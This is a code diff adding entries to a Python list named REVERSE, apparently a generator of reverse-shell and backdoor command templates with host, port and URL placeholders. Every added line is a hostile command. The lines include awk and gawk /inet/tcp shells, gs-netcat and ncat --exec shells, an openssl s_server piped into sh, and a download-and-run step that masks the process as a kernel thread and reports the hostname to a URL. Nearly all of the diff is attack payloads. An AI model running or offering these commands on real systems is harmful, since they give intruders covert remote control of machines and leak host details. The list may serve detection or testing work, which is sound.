@@ -201,6 +201,14 @@ REVERSE = [
     "screen -dmS {plain} bash -c 'while true; do ‹bash -i >& /dev/tcp/{host}/{port} 0>&1¦nc {host} {port} -e /bin/sh¦socat TCP:{host}:{port} EXEC:sh›; sleep {n}; done'",
     'tmux new -d -s {plain} "‹bash -i >& /dev/tcp/{host}/{port} 0>&1¦{dl} {url} | sh¦tmate -F -k {name} -n {plain}›"',
     '‹script -qc /bin/bash /dev/null¦python3 -c \'import pty;pty.spawn("/bin/bash")\'¦script /dev/null -c bash›; ‹export TERM=xterm¦export SHELL=bash TERM=xterm-256color›; ‹stty raw -echo; fg¦stty rows 40 cols {n}; reset¦# ^Z\nstty raw -echo; fg; reset›',
+    'awk \'BEGIN {s="/inet/tcp/0/{host}/{port}"; while(1) {‹printf "> " |& s; ¦›‹do ¦›{‹ ¦›s |& getline c; ‹if(c) ¦›while((c |& getline r)>0) print r |& s; close(c)} ‹while(c != "exit"); ¦›close(s)}}\'',
+    'gawk \'BEGIN{{var}="/inet/tcp/0/{host}/{port}";for(;{var}|&getline c;close(c))while(c|getline)print|&{var};close({var})}\'',
+    'gs-netcat -s ‹{plain}¦"$S"¦$(cat {file})› -l ‹-i¦-e /bin/bash¦-D -q› ‹&¦›',
+    '‹curl -fsSL¦wget -qO-› {url} -o {tmp}/.{plain}; chmod 755 {tmp}/.{plain}; GS_ARGS="-s {plain}{n} -liqD" exec -a \'[‹kcached¦kworker/0:1¦ksmd›]\' {tmp}/.{plain}',
+    'S=$(head -c 16 /dev/urandom | md5sum | cut -c1-22); nohup {file} -s $S -l ‹-i ¦-e bash ¦›-q >/dev/null 2>&1 & curl -s "{url}?h=$(hostname)&k=$S"',
+    'while true; do ‹gs-netcat¦{file}› -s {plain} -l -e /bin/sh; sleep {n}; done &',
+    'ncat --ssl ‹-lvnp {port}¦{host} {port}› ‹-e¦--exec¦--sh-exec› ‹/bin/bash¦/bin/sh› ‹--keep-open &¦›',
+    'openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/k -out /tmp/c -days 1 -subj /CN={plain}; openssl s_server -quiet -key /tmp/k -cert /tmp/c -port {port} < /tmp/{name} | sh > /tmp/{name}',
 ]
 
 C2 = [
